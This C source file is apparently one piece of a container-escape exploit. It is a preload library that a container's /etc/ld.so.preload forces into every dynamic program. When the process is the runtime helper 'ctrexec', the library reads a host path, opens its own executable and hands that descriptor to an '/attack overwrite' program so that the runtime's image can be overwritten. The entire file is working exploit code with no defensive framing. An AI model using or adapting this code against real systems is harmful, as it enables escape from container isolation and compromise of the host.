/* A library that the container's /etc/ld.so.preload has every dynamic program there load. A process that runs
 * from ctrexec's image executes the attack program instead, with the image open to be overwritten. */
#include <fcntl.h>
#include <stdio.h>
#include <string.h>
#include <unistd.h>

__attribute__((constructor)) static void loaded(void)
{
    char target[64] = "", owned[4096] = "", number[16];
    char *argv[] = {"/attack", "overwrite", owned, number, NULL};
    if (readlink("/proc/self/exe", target, sizeof(target) - 1) <= 0 ||
        strncmp(target, "/memfd:ctrexec", 14) != 0) {
        return;
    }
    if (readlink("/owned", owned, sizeof(owned) - 1) <= 0) { /* a path of the host */
        return;
    }
    snprintf(number, sizeof(number), "%d", open("/proc/self/exe", O_RDONLY));
    execv(argv[0], argv);
}
